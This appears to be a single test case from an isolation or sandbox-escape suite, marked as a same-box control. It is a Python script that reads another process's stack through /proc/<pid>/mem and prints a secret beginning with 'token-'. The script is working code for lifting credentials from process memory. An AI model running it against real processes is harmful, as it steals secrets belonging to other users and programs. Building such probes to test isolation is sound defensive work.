# Reads the memory of a process of the host.
# control: same-box
python3 - <<'END'
import ctypes, os, signal
victim = int(os.environ["VICTIM"])
libc = ctypes.CDLL(None, use_errno=True)

maps = [line.split() for line in open(f"/proc/{victim}/maps")]
with open(f"/proc/{victim}/mem", "rb", 0) as memory:
    for line in maps:
        if line[-1] == "[stack]":
            low, high = (int(part, 16) for part in line[0].split("-"))
            memory.seek(low)
            data = memory.read(high - low)
            print(data[data.find(b"token-"):][:40])
END
